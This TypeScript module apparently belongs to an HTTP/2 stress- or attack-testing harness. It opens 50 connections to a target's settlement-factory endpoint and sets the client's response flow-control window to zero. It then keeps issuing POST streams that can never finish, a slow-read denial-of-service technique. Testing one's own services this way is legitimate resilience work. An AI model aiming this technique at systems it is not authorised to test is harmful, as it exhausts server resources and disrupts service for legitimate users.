/** Settlements with large responses, for which the client leaves no flow-control window. */
import { BASE_PATH } from "../../registries/services.js";
import { SETTLEMENTS, settlementBody } from "../../registries/settlements.js";
import { keepConnected } from "../wire/crowd.js";
import { Http2Connection } from "../wire/http2-connection.js";
import { encodeRequestBlock } from "../wire/http2-frames.js";
import { STREAMS } from "./bodies-http2.js";
import type { Attack } from "./attack.js";

const CONNECTIONS = 50;

export const unreadSettlements: Attack = (target, tally, signal) => {
  const block = encodeRequestBlock("POST", `${BASE_PATH}/allocation/v2/settlement-factory`, {
    "content-type": "application/json",
  });
  const bodies = Array.from({ length: SETTLEMENTS }, (_, settlement) => ({
    content: Buffer.from(JSON.stringify(settlementBody(settlement, false))),
    ends: true,
  }));
  return keepConnected(target, tally, signal, {
    count: CONNECTIONS,
    use(socket) {
      const request = () => connection.request(block, bodies[tally.requests % bodies.length]);
      const connection = new Http2Connection(socket, tally, { responseWindow: 0, onStreamEnd: request });
      for (let stream = 0; stream < STREAMS; stream++) request();
    },
  });
};
